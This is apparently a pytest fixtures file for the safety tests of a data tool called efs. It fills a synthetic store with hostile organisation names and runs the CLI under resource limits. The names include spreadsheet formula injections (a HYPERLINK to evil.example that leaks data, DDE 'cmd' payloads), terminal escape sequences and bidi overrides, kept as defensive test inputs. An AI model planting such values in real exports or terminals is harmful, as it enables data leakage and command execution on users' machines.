"""Fixtures of the safety tests: a store whose names are hostile, and a way to run efs as users do."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from tests.data_import.conftest import base_files, based_store, pg_schema_url, store  # noqa: F401  (shared)

YEAR = 2024
#: Organisation names a red team put into the store: spreadsheet formulas, terminal escapes, bidi.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","жми")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "\r=1+1"]
ESCAPES = ["\x1b]8;;http://evil.example\x1b\\Школа-ссылка\x1b]8;;\x1b\\", "Школа\x1b[2J\x1b[H", "Шк\u202eалоШ",
           "Школа\x9b31m"]
HOSTILE_NAMES = FORMULAS + ESCAPES
MiB = 1024**2


@pytest.fixture(scope="session")
def hostile_store(tmp_path_factory, registry):
    """(path, configuration) of a SQLite store of Megion's synthetic data whose organisations have hostile names."""
    import sqlalchemy as sa

    from efs.data import schema as S
    from efs.data.store import open_store
    from efs.loading import load_one
    from efs.synthesis import synthesize

    config = load_one("megion", registry)
    path = tmp_path_factory.mktemp("hostile") / "store.sqlite"
    opened = open_store(path)
    synthesize(opened, config, staff=300, year=YEAR, seed=3)
    with opened.engine.begin() as conn:
        ids = [r.id for r in conn.execute(sa.select(S.organizations.c.id).order_by(S.organizations.c.id))]
        assert len(ids) >= len(HOSTILE_NAMES)
        for oid, name in zip(ids, HOSTILE_NAMES, strict=False):
            conn.execute(sa.update(S.organizations).where(S.organizations.c.id == oid).values(name=name))
    opened.close()
    return path, config


def limits(memory: int = 1024 * MiB, fsize: int | None = None):
    """A ``preexec_fn`` that caps address space (and file size: writes beyond it fail with EFBIG)."""

    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        if fsize is not None:
            import signal

            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of death; inherited through exec
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    return apply


def efs(*args: str, cwd: Path, timeout: float = 60, env: dict[str, str] | None = None, stdin=None,
        memory: int = 1024 * MiB, fsize: int | None = None, input: bytes | None = None):
    """Run ``python -m efs`` as a user would: a subprocess with time and memory limits; bytes out."""
    return subprocess.run(
        [sys.executable, "-m", "efs", *args],
        capture_output=True, timeout=timeout, cwd=cwd, stdin=stdin, input=input,
        env={**os.environ, "PYTHONIOENCODING": "utf-8", **(env or {})},
        preexec_fn=limits(memory, fsize),
    )
